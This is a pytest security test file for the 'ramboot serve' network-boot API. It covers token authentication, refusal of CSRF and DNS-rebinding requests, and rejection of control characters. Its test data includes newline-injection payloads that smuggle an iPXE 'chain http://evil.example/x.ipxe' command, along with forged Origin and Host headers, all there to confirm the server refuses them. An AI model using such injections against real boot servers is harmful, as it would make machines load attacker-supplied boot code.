"""Issue 23, items 6 and 7, against the real `ramboot serve` in a namespace, driven by curl:
reads and writes take a token (DATA/api-token when none is configured), a cross-site
`text/plain` POST (CSRF) and a DNS-rebound page (a foreign Host) are refused, and a
control character never reaches a boot script."""

from __future__ import annotations

import json
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from conftest import write_fake_image
from dhcp_netns import SERVER_IP, NetnsPair, need
from ramboot.config import ConfigError, parse_config

RAMBOOT = [str(Path(sys.executable).with_name("ramboot"))]
MAC = "52:54:00:23:06:01"
BASE = f"http://{SERVER_IP}"


class Served:
    """`ramboot serve` (DHCP off) in the server namespace; curl from the client namespace."""

    def __init__(self, pair: NetnsPair, tmp: Path, extra: str = ""):
        self.pair, self.tmp = pair, tmp
        self.data = tmp / "data"
        write_fake_image(self.data, "demo")
        self.cfg = tmp / "ramboot.toml"
        self.cfg.write_text(f'data_dir = "{self.data}"\n[network]\ninterface = "{pair.srv_if}"\n'
                            f'address = "{SERVER_IP}"\n[dhcp]\nmode = "off"\n[tftp]\nport = 69\n'
                            f"[http]\nport = 80\n{extra}")
        self.log = tmp / "serve.log"
        self.proc: subprocess.Popen | None = None

    def start(self) -> None:
        self.log.write_bytes(b"")
        self.proc = self.pair.popen(self.pair.srv_ns, *RAMBOOT, "serve", "--config", str(self.cfg),
                                    stdout=subprocess.DEVNULL, stderr=open(self.log, "ab"))
        end = time.monotonic() + 20
        while time.monotonic() < end and b"serving on" not in self.log.read_bytes():
            assert self.proc.poll() is None, self.log.read_text()
            time.sleep(0.1)
        assert b"serving on" in self.log.read_bytes(), self.log.read_text()

    def stop(self) -> None:
        assert self.proc is not None
        self.proc.send_signal(signal.SIGTERM)
        assert self.proc.wait(15) == 0, self.log.read_text()

    def curl(self, method: str, path: str, *args: str, token: str | None = None) -> tuple[int, str]:
        """(status, body) of one request from the client namespace."""
        auth = ["-H", f"Authorization: Bearer {token}"] if token else []
        out = self.pair.run(self.pair.cli_ns, "curl", "-s", "-o", "-", "-w", "\n%{http_code}", "-X", method,
                            *auth, *args, BASE + path).stdout
        body, _, code = out.rpartition("\n")
        return int(code), body


@pytest.fixture
def served(tmp_path: Path):
    need("curl")
    pair = NetnsPair()
    try:
        pair.run(pair.cli_ns, "ip", "addr", "add", "10.231.7.50/24", "dev", pair.cli_if)
        s = Served(pair, tmp_path)
        s.start()
        yield s
    finally:
        pair.close()


def _error(body: str) -> str:
    got = json.loads(body)
    assert set(got) == {"error"} and "\n" not in got["error"], body  # one line of JSON
    return got["error"]


@pytest.mark.netns
def test_serve_makes_a_private_admin_token_and_reads_need_it(served: Served) -> None:
    path = served.data / "api-token"
    token = path.read_text().strip()
    assert path.stat().st_mode & 0o777 == 0o600 and len(token) >= 43  # 32 random bytes, URL-safe base64
    log = served.log.read_text()
    assert str(path) in log and token not in log  # says where it is, never what it is
    for p in ("/api/v1/nodes", "/api/v1/leases", "/api/v1/status", "/metrics"):
        st, body = served.curl("GET", p)
        assert st == 401 and "missing bearer token" in _error(body), (p, body)
        assert served.curl("GET", p, token="wrong-token")[0] == 401, p
        assert served.curl("GET", p, token=token)[0] == 200, p
    st, body = served.curl("GET", "/metrics", token=token)
    assert "ramboot_" in body
    # a later start keeps the same token
    served.stop()
    served.start()
    assert path.read_text().strip() == token
    assert served.curl("GET", "/api/v1/nodes", token=token)[0] == 200


@pytest.mark.netns
def test_csrf_and_dns_rebinding_are_refused(served: Served) -> None:
    token = (served.data / "api-token").read_text().strip()
    body = json.dumps({"mac": MAC, "image": "demo"})
    # what a web page's <form enctype=text/plain> or no-cors fetch sends: no token, text/plain, its Origin
    st, got = served.curl("POST", "/api/v1/nodes", "-H", "Content-Type: text/plain",
                          "-H", "Origin: http://evil.example", "-d", body)
    assert st == 403 and "Origin" in _error(got)
    st, got = served.curl("POST", "/api/v1/nodes", "-H", "Content-Type: text/plain", "-d", body)
    assert st == 401
    # even with the token, text/plain is not JSON
    st, got = served.curl("POST", "/api/v1/nodes", "-H", "Content-Type: text/plain", "-d", body, token=token)
    assert st == 415 and "application/json" in _error(got)
    # a page on another site, with the token (say a user pasted it there)
    st, got = served.curl("POST", "/api/v1/nodes", "-H", "Content-Type: application/json",
                          "-H", "Origin: http://evil.example", "-d", body, token=token)
    assert st == 403
    # DNS rebinding: evil.example now resolves to the server, the browser sends its name as Host
    for host in ("evil.example", "evil.example:80"):
        st, got = served.curl("POST", "/api/v1/nodes", "-H", "Content-Type: application/json",
                              "-H", f"Host: {host}", "-d", body, token=token)
        assert st == 403 and "not a name of this server" in _error(got), host
        assert served.curl("GET", "/api/v1/nodes", "-H", f"Host: {host}", token=token)[0] == 403
        assert served.curl("DELETE", f"/api/v1/nodes/{MAC}", "-H", f"Host: {host}", token=token)[0] == 403
        assert served.curl("GET", "/metrics", "-H", f"Host: {host}", token=token)[0] == 403
    st, got = served.curl("GET", "/api/v1/nodes", token=token)
    assert st == 200 and json.loads(got) == []  # nothing was created
    # the same requests from the server's own page (its address as Host and Origin) go through
    st, got = served.curl("POST", "/api/v1/nodes", "-H", "Content-Type: application/json",
                          "-H", f"Origin: http://{SERVER_IP}", "-d", body, token=token)
    assert st == 201, got
    # node-facing paths take any Host (firmware sends odd ones)
    st, script = served.curl("GET", f"/boot/{MAC.replace(':', '-')}.ipxe", "-H", "Host: evil.example")
    assert st == 200 and script.startswith("#!ipxe")


@pytest.mark.netns
def test_kernel_args_with_a_newline_never_reach_the_ipxe_script(served: Served) -> None:
    token = (served.data / "api-token").read_text().strip()
    js = ["-H", "Content-Type: application/json"]
    st, got = served.curl("PUT", f"/api/v1/nodes/{MAC}", *js, "-d",
                          json.dumps({"image": "demo", "kernel_args": "quiet"}), token=token)
    assert st == 201, got
    for bad in ({"image": "demo", "kernel_args": "quiet\nchain http://evil.example/x.ipxe"},
                {"image": "demo", "kernel_args": "quiet\rchain http://evil.example/x.ipxe"},
                {"image": "demo", "labels": {"rack": "a1\nchain http://evil.example/x.ipxe"}},
                {"image": "demo", "hostname": "n1\nchain"}):
        st, got = served.curl("PUT", f"/api/v1/nodes/{MAC}", *js, "-d", json.dumps(bad), token=token)
        assert st == 400 and "control character" in _error(got), got
    st, got = served.curl("PUT", "/api/v1/profiles/p1", *js, "-d",
                          json.dumps({"kernel_args": "a\nchain http://evil.example/x.ipxe"}), token=token)
    assert st == 400 and _error(got).startswith("kernel_args: control character")
    st, script = served.curl("GET", f"/boot/{MAC.replace(':', '-')}.ipxe")
    assert st == 200 and " quiet" in script and "evil" not in script, script


def test_config_kernel_args_with_a_newline_refused() -> None:
    with pytest.raises(ConfigError) as e:
        parse_config('[boot]\nkernel_args = "console=ttyS0\\nchain http://evil.example/x"\n')
    assert "boot.kernel_args" in str(e.value) and "control character" in str(e.value)
    assert "\n" not in str(e.value)


@pytest.mark.parametrize("text,fragment", [
    ('[api]\ntoken = "short"\n', "api.token"),
    ('[api]\ntoken = "same-token"\nread_token = "same-token"\n', "must differ"),
    ('[api]\ntoken = " spaced-token"\n', "api.token"),
])
def test_bad_api_tokens_in_the_config(text: str, fragment: str) -> None:
    with pytest.raises(ConfigError) as e:
        parse_config(text)
    assert fragment in str(e.value)
